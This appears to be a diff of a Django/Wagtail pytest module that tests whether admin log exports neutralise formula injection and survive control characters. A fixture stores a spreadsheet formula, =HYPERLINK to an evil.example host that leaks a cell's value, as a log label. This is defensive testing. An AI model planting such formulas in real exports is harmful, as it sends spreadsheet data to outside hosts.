@@ -4,18 +4,14 @@ neutralised, and a control character kept in an old label does not break the XLS
 
 import csv
 import io
-import sys
 import zipfile
-from pathlib import Path
 
 import openpyxl
 import pytest
 from django.urls import reverse
 from wagtail.models import ModelLogEntry
 
-sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "workflows"))
-
-from wf_helpers import make_phenomenon  # noqa: E402
+from tests.factories import PhenomenonFactory
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")'
 
@@ -31,9 +27,9 @@ def content(response) -> bytes:
 @pytest.fixture
 def hostile_history(admin_user, province_operator):
     """Log entries whose labels were stored before input refused such titles."""
-    phenomenon = make_phenomenon(province_operator, title="Harga beras naik")
+    phenomenon = PhenomenonFactory(author=province_operator, title="Harga beras naik")
     ModelLogEntry.objects.filter(object_id=str(phenomenon.pk)).update(label=FORMULA)
-    other = make_phenomenon(province_operator, title="Harga telur naik")
+    other = PhenomenonFactory(author=province_operator, title="Harga telur naik")
     ModelLogEntry.objects.filter(object_id=str(other.pk)).update(label="Harga\x1b telur\x0b naik")
     return phenomenon, other
 
